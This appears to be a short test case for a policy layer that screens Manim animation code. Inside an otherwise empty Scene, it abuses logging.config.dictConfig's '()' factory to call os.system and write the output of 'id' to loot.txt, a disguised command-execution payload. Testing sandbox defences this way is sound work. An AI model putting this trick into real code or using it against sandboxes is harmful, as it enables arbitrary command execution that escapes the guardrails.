# family: process
# layer: policy
# attack: logging.config builds any callable from a dict
import logging.config
from manim import *


class Attack(Scene):
    def construct(self):
        logging.config.dictConfig({"version": 1, "handlers": {"h": {"()": "os.system", "command": "id > loot.txt"}}})
        self.wait(0.1)
